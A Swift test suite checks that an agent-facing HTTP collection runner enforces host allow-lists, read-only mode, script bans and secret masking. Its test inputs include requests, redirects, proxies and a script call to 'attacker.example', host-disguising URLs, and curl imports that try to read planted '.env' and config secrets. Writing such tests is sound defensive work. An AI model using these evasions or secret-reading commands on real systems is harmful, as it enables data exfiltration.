import Foundation
import JSON
import TestSupport
import Testing

/// The rules for hosts, methods, scripts and variables, which no argument and no changed file gets around.
@Suite(.timeLimit(.minutes(20)))
struct AgentRuleTests {
    private static func response(_ status: String, _ fields: String = "", body: String = "{}") -> String {
        "HTTP/1.1 \(status)\r\nContent-Type: application/json\r\n\(fields)Content-Length: \(body.utf8.count)\r\n\r\n\(body)"
    }

    /// A server that redirects `/away` to another host and `/here` to itself, and mints tokens.
    private static func server() throws -> ScriptedServer {
        try ScriptedServer(
            .serve { request in
                if request.contains(" /away") {
                    return response("302 Found", "Location: http://attacker.example/x\r\n")
                }
                if request.contains(" /here") { return response("302 Found", "Location: /there\r\n") }
                if request.contains(" /keep") { return response("307 Temporary", "Location: /there\r\n") }
                return response("200 OK", body: #"{"access_token":"minted-token-1","token_type":"Bearer"}"#)
            })
    }

    /// Runs the requests of a collection whose variable `base` is the server; returns the outcome and the problem of each.
    ///
    /// - Parameter changed: The requests that replace those of the collection after the start.
    private func run(
        _ requests: String, changed: String? = nil, head: String = "", options: [String] = [],
        arguments: JSONValue = [:],
        environment: [String: String] = [:]
    ) async throws -> (lines: [String], requests: [String]) {
        let server = try Self.server()
        defer { server.stop() }
        let folder = try TemporaryFolder()
        let base = "http://127.0.0.1:\(server.port)"
        let start = "name: Rules\nvariables: { base: \"\(base)\", item: x }\n\(head)requests:\n"
        let written = { @Sendable (text: String) in start + text.replacing("<<port>>", with: "\(server.port)") }
        try folder.write(written(requests), to: "rules.yaml")
        let lines = try await AgentClient.session(["rules.yaml"] + options, in: folder, environment: environment) {
            (client) throws in
            _ = try client.call("list")
            if let changed { try folder.write(written(changed), to: "rules.yaml") }
            let result = try client.call("run", arguments)
            let failures = result.at("failures")?.elements ?? []
            let requests = result.at("requests")?.elements ?? []
            guard !requests.isEmpty else {
                return result.at("diagnostics")?.elements.map { $0.at("message")?.text ?? "" } ?? []
            }
            return requests.map { request in
                let failure = failures.first { $0.at("number") == request.at("number") }
                let problem = failure?.at("untrusted/problems/0/message") ?? failure?.at("untrusted/reason")
                return (request.at("outcome")?.text ?? "") + (problem.map { ": \($0.text)" } ?? "")
            }
        }
        return (lines, server.requests.map { String($0.prefix { !$0.isNewline }) })
    }

    private static let refusedHost = "errored: the host \"attacker.example\" is not allowed"

    // MARK: Hosts

    @Test func hostsOfTheStartAreAllowed() async throws {
        let result = try await run(
            """
              - name: A
                GET: http://shop.example:<<port>>/a
                resolve: { "shop.example:<<port>>": 127.0.0.1 }
              - name: B
                GET: <<base>>/b
            """)
        #expect(result.lines == ["passed", "passed"], "\(result.lines)")
        #expect(result.requests == ["GET /a HTTP/1.1", "GET /b HTTP/1.1"])
    }

    /// Hosts that a changed collection reaches in different ways.
    @Test(arguments: [
        "GET: http://attacker.example/", "GET: http://attacker.example:<<port>>/",
        "{ GET: \"http://attacker.example:<<port>>/\", resolve: { \"attacker.example:<<port>>\": 127.0.0.1 } }",
        "{ GET: <<base>>/away, followRedirects: true }", "GET: http://ATTACKER.example./x",
        "GET: http://127.0.0.1@attacker.example/",
        "{ GET: http://attacker.example/, auth: { basic: { user: annabella, password: <<item>> } } }",
    ])
    func otherHostsAreRefused(request: String) async throws {
        let item = request.hasPrefix("{") ? "  - \(request)\n" : "  - \(request)\n"
        let result = try await run("  - GET: <<base>>/\n", changed: item)
        #expect(result.lines == [Self.refusedHost], "\(result.lines)")
        #expect(result.requests.allSatisfy { $0.contains("/away") })
    }

    @Test func addressesAndProxiesAreHosts() async throws {
        let result = try await run(
            "  - GET: <<base>>/\n",
            changed: """
                  - { GET: "http://localhost:<<port>>/", resolve: { "localhost:<<port>>": 192.0.2.1 } }
                  - { GET: <<base>>/, proxy: http://attacker.example:3128 }
                  - { GET: "http://attacker%2Eexample/" }
                """)
        #expect(
            result.lines == [
                "errored: the address in resolve \"192.0.2.1\" is not allowed",
                "errored: the proxy \"attacker.example\" is not allowed",
                "errored: the host is not written in the usual way, so it is not allowed",
            ], "\(result.lines)")
        #expect(result.requests == [])
    }

    @Test func variablesDoNotChangeTheHost() async throws {
        let result = try await run(
            "  - GET: <<base>>/\n", arguments: ["variables": ["base": "http://attacker.example"]])
        #expect(result.lines == [Self.refusedHost])
        #expect(result.requests == [])
    }

    @Test func tokenEndpointsAreHosts() async throws {
        let head = "tokens:\n  api: { oauth2: { tokenUrl: <<base>>/token, clientId: app, clientSecret: <<item>> } }\n"
        let request = "  - { GET: <<base>>/, auth: { bearer: <<api>> } }\n"
        let allowed = try await run(request, head: head)
        #expect(allowed.lines == ["passed"], "\(allowed.lines)")
        #expect(allowed.requests == ["POST /token HTTP/1.1", "GET / HTTP/1.1"])
        let refused = try await run(
            request, head: head.replacing("<<base>>/token", with: "http://attacker.example/token"),
            options: ["--allow-host", "api.example"])
        #expect(
            refused.lines.first?.contains("the host \"attacker.example\" is not allowed") ?? false, "\(refused.lines)")
        #expect(refused.requests == [])
    }

    @Test func requestsOfScriptsAreLimited() async throws {
        let result = try await run(
            """
              - name: A
                GET: <<base>>/
                afterResponse: |
                  const answer = await new Promise((done) => pm.sendRequest('http://attacker.example/', done));
                  pm.test('sent', () => pm.expect(answer).to.equal(null));
            """)
        #expect(result.lines.first?.hasPrefix("failed") ?? false, "\(result.lines)")
        #expect(result.requests == ["GET / HTTP/1.1"])
    }

    @Test func allowHostReplacesTheHostsOfTheCollections() async throws {
        let requests = """
              - { GET: "http://a.example:<<port>>/", resolve: { "a.example:<<port>>": 127.0.0.1 } }
              - { GET: "http://b.example:<<port>>/", resolve: { "b.example:<<port>>": 127.0.0.1 } }
              - { GET: "http://c.b.example:<<port>>/", resolve: { "c.b.example:<<port>>": 127.0.0.1 } }
            """
        let one = try await run(requests, options: ["--allow-host", "a.example"])
        #expect(
            one.lines == [
                "passed", "errored: the host \"b.example\" is not allowed",
                "errored: the host \"c.b.example\" is not allowed",
            ])
        let below = try await run(requests, options: ["--allow-host", "*.b.example", "--allow-host", "a.example:1"])
        #expect(
            below.lines == [
                "errored: the host \"a.example\" is not allowed", "errored: the host \"b.example\" is not allowed",
                "passed",
            ])
    }

    // MARK: Methods

    @Test func readOnlySendsGetAndHead() async throws {
        let result = try await run(
            """
              - GET: <<base>>/a
              - HEAD: <<base>>/b
              - POST: <<base>>/c
              - DELETE: <<base>>/d
              - { GET: <<base>>/here, followRedirects: true }
            """, options: ["--read-only"])
        let refusal = { (method: String) in "errored: \(method) is not allowed: only GET and HEAD are sent" }
        #expect(
            result.lines == ["passed", "passed", refusal("POST"), refusal("DELETE"), "passed"],
            "\(result.lines)")
        #expect(
            result.requests == [
                "GET /a HTTP/1.1", "HEAD /b HTTP/1.1", "GET /here HTTP/1.1", "GET /there HTTP/1.1",
            ])
    }

    @Test func readOnlyFetchesNoTokens() async throws {
        let result = try await run(
            "  - { GET: <<base>>/, auth: { bearer: <<api>> } }\n",
            head: "tokens:\n  api: { oauth2: { tokenUrl: <<base>>/token, clientId: app, clientSecret: <<item>> } }\n",
            options: ["--read-only"])
        #expect(result.lines.first?.contains("POST is not allowed") ?? false, "\(result.lines)")
        #expect(result.requests == [])
    }

    // MARK: Scripts, environments and variables

    @Test func noScriptsRefusesTheRun() async throws {
        let result = try await run(
            "  - GET: <<base>>/\n", changed: "  - GET: <<base>>/\n    afterResponse: pm.test('x', () => {});\n",
            options: ["--no-scripts"])
        #expect(result.lines == ["scripts are not allowed"])
        #expect(result.requests == [])
    }

    @Test func variablesOfTheProcessAreThoseOfTheStart() async throws {
        let result = try await run(
            "  - GET: <<base>>/<<env.NAMED>>\n",
            changed: "  - GET: <<base>>/<<env.NAMED>>/<<env.OTHER | default(\"none\")>>\n",
            environment: ["NAMED": "seen", "OTHER": "unseen"])
        #expect(result.lines == ["passed"], "\(result.lines)")
        #expect(result.requests == ["GET /seen/none HTTP/1.1"])
    }

    /// An import copies no files of values into its result, however they are named.
    @Test func importsReadNoValues() async throws {
        let folder = try TemporaryFolder()
        try folder.write("name: One\nrequests:\n  - GET: http://127.0.0.1:1/\n", to: "one.yaml")
        for name in [".env", "conf", ".hidden/conf"] {
            try folder.write(
                "header = \"X-Word: planted-value-1\"\nX-Word: planted-value-1\nurl = http://a.example/planted-value-1\n",
                to: name)
        }
        try folder.write("curl -K conf\n", to: "visible.sh")
        try folder.write("curl -K .env\n", to: "hidden.sh")
        try folder.link("linked.sh", to: folder.path + "/.env")
        try await AgentClient.session(["one.yaml"], in: folder) { (client) throws in
            let texts = [
                "-K .env", "-K conf", "-K .hidden/conf", "-H @conf http://a.example", "-d @conf http://a.example",
            ]
            for text in texts {
                client.post("tools/call", ["name": "import", "arguments": ["text": .string("curl \(text)")]])
                _ = try client.receive()
            }
            for path in [".env", ".hidden/conf", "linked.sh", "hidden.sh"] {
                let arguments: JSONValue = ["path": .string(path), "from": "curl"]
                client.post("tools/call", ["name": "import", "arguments": arguments])
                _ = try client.receive()
            }
            #expect(!client.transcript.contains("planted-value"), "\(client.transcript)")
            #expect(
                try client.call("import", ["path": "visible.sh"]).at("yaml")?.text.contains("planted-value") ?? false)
        }
    }

    /// Variables of `--env-file` can be read and named, also if the process has them, too.
    @Test func variablesOfTheFileAreReadable() async throws {
        let server = try Self.server()
        defer { server.stop() }
        let folder = try TemporaryFolder()
        let text = "name: File\nvariables: { base: \"http://127.0.0.1:\(server.port)\", word: x }\nrequests:\n"
        try folder.write(text + "  - GET: <<base>>/<<word>>\n", to: "file.yaml")
        try folder.write("BOTH=a-value-of-both\nFILE_TOKEN=a-value-of-the-file\n", to: ".env")
        let environment = ["BOTH": "a-value-of-both", "OTHER": "unseen"]
        try await AgentClient.session(["file.yaml", "--env-file", ".env"], in: folder, environment: environment) {
            (client) throws in
            #expect(try client.call("list").at("secrets") == ["BOTH", "FILE_TOKEN"])
            try folder.write(text + "  - GET: <<base>>/<<word>>/<<env.BOTH>>/<<env.FILE_TOKEN>>\n", to: "file.yaml")
            let secret: JSONValue = ["variables": ["word": ["secret": "BOTH"]]]
            #expect(try client.call("run", secret).at("outcome") == "passed")
            let refusal = try client.refusal("run", ["variables": ["word": ["secret": "OTHER"]]])
            #expect(refusal.contains("there are BOTH, FILE_TOKEN"), "\(refusal)")
            #expect(!client.transcript.contains("a-value-of-the-file"))
        }
        let sent = server.requests.map { String($0.prefix { !$0.isNewline }) }
        #expect(sent == ["GET /a-value-of-both/a-value-of-both/a-value-of-the-file HTTP/1.1"])
    }

    /// The variables `HUBRUN_…` of the person's own runs change nothing: no report is written, nothing is revealed.
    @Test func variablesOfOptionsAreNotUsed() async throws {
        let result = try await run(
            "  - GET: <<base>>/<<env.API_TOKEN>>\n    expect: { status: 500 }\n",
            environment: [
                "HUBRUN_REVEAL": "1", "HUBRUN_REPORT": "jsonl=/nonexistent/folder/x.jsonl", "HUBRUN_DRY_RUN": "1",
                "API_TOKEN": "a-secret-value-1",
            ])
        #expect(result.lines == ["failed: expected status 500, got 200 OK"], "\(result.lines)")
    }

    @Test func environmentsAreThoseOfThePerson() async throws {
        let folder = try TemporaryFolder()
        try folder.write(
            """
            name: Three
            environments:
              local: { variables: { base: "http://127.0.0.1:1" } }
              staging: { variables: { base: "http://127.0.0.1:2" } }
              production: { variables: { base: "http://127.0.0.1:3" } }
            requests:
              - GET: <<base>>/
            """, to: "three.yaml")
        try await AgentClient.session(["three.yaml", "-e", "staging", "-e", "local"], in: folder) { (client) throws in
            #expect(try client.call("list").at("environments") == ["staging", "local"])
            let url = { (arguments: JSONValue) in try client.call("show", arguments).at("requests/0/url")?.text }
            #expect(try url([:]) == "http://127.0.0.1:2/")
            #expect(try url(["environment": "local"]) == "http://127.0.0.1:1/")
            let refusal = try client.refusal("show", ["environment": "production"])
            #expect(refusal.contains("allowed are \"staging\", \"local\""), "\(refusal)")
            #expect(try client.refusal("run", ["environment": "stagin"]).contains("did you mean \"staging\"?"))
        }
        try await AgentClient.session(["three.yaml"], in: folder) { (client) throws in
            #expect(try client.call("show").at("requests/0/url") == "http://127.0.0.1:1/")
            #expect(try client.refusal("show", ["environment": "staging"]).contains("is not allowed"))
        }
    }

    @Test func valuesOfThePersonStay() async throws {
        let folder = try TemporaryFolder()
        try folder.write(
            """
            name: Values
            variables: { kind: tea, word: x, base: "http://127.0.0.1:1" }
            requests:
              - GET: <<base>>/<<kind>>/<<word>>/<<password>>
            """, to: "values.yaml")
        let options = [
            "values.yaml", "-v", "kind=coffee", "--secret", "password=a-secret-word", "--secret", "other=more",
        ]
        try await AgentClient.session(options, in: folder) { (client) throws in
            let url = { (arguments: JSONValue) in try client.call("show", arguments).at("requests/0/url")?.text ?? "" }
            #expect(try url(["variables": ["word": "y"]]).hasPrefix("http://127.0.0.1:1/coffee/y/•••"))
            #expect(try url(["variables": ["word": true]]).contains("/true/"))
            #expect(try url(["variables": ["word": ["secret": "password"]]]).hasPrefix("http://127.0.0.1:1/coffee/•••"))
            let refusal = { (variables: JSONValue) in try client.refusal("show", ["variables": variables]) }
            #expect(try refusal(["kind": "milk"]).contains("has a value from the person"))
            #expect(try refusal(["word": ["secret": "passwort"]]).contains("did you mean \"password\"?"))
            #expect(try refusal(["word=x": "y"]).contains("no collection has a variable"))
            #expect(!client.transcript.contains("a-secret-word"))
        }
    }
}
